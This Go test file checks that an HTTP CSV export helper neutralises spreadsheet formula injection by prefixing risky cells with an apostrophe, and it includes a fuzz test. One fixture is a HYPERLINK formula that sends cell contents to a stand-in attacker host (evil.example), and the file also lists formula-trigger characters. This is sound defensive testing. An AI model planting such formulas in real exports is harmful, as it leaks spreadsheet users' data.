package httpx_test

import (
	"bytes"
	"encoding/csv"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/agentline/agentline/internal/httpx"
)

// formulaStarts are OWASP's leading characters of a cell a spreadsheet
// runs as a formula.
var formulaStarts = []string{"=", "+", "-", "@", "\t", "\r"}

// writeCSV answers with records through httpx.CSV and returns the answer.
func writeCSV(t testing.TB, records ...[]string) *httptest.ResponseRecorder {
	t.Helper()
	rec := httptest.NewRecorder()
	c := httpx.NewCSV(rec, "export-1.csv")
	for _, r := range records {
		if err := c.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := c.Flush(); err != nil {
		t.Fatal(err)
	}
	return rec
}

func TestCSV(t *testing.T) {
	rec := writeCSV(t,
		[]string{"name", "note", "n"},
		[]string{`=HYPERLINK("http://evil.example/?"&A2,"Click")`, "+1", "-5"},
		[]string{"@SUM(A1)", "\tx", "\r=1"},
		[]string{"a;=1+1", " =1", ""},
		[]string{"plain", `say "hi", twice`, "3.5"},
	)
	h := rec.Header()
	if h.Get("Content-Type") != "text/csv; charset=utf-8" || h.Get("Content-Disposition") != "attachment; filename=export-1.csv" || h.Get("Cache-Control") != "no-store" {
		t.Errorf("headers %v", h)
	}
	want := "name,note,n\n" +
		`"'=HYPERLINK(""http://evil.example/?""&A2,""Click"")",'+1,'-5` + "\n" +
		"'@SUM(A1),'\tx,\"'\r=1\"\n" +
		"\"a;=1+1\",\" =1\",\n" +
		"plain,\"say \"\"hi\"\", twice\",3.5\n"
	if got := rec.Body.String(); got != want {
		t.Fatalf("body\n%q\nwant\n%q", got, want)
	}
	rows, err := csv.NewReader(strings.NewReader(want)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			for _, c := range formulaStarts {
				if strings.HasPrefix(cell, c) {
					t.Errorf("cell %q begins with %q", cell, c)
				}
			}
		}
	}
}

// FuzzCSV: whatever the cells, encoding/csv reads back one record of the
// same cells, each with a leading ' when it began with a formula
// character and unchanged otherwise (but for \r\n in a field, which CSV
// readers take as \n).
func FuzzCSV(f *testing.F) {
	f.Add("=1+1", "a,b", `"q"`)
	f.Add("-5", "x;=cmd", "\r\n")
	f.Add(" lead", "\ttab", "")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		in := []string{a, b, c}
		for _, s := range in {
			if !utf8.ValidString(s) {
				t.Skip()
			}
		}
		rec := writeCSV(t, in)
		got, err := csv.NewReader(bytes.NewReader(rec.Body.Bytes())).Read()
		if err != nil {
			t.Fatalf("%q: %v", rec.Body.String(), err)
		}
		want := make([]string, len(in))
		for i, s := range in {
			if s != "" && slices.Contains(formulaStarts, s[:1]) {
				s = "'" + s
			}
			want[i] = strings.ReplaceAll(s, "\r\n", "\n")
		}
		if !slices.Equal(got, want) {
			t.Fatalf("read %q, want %q (written %q)", got, want, rec.Body.String())
		}
	})
}
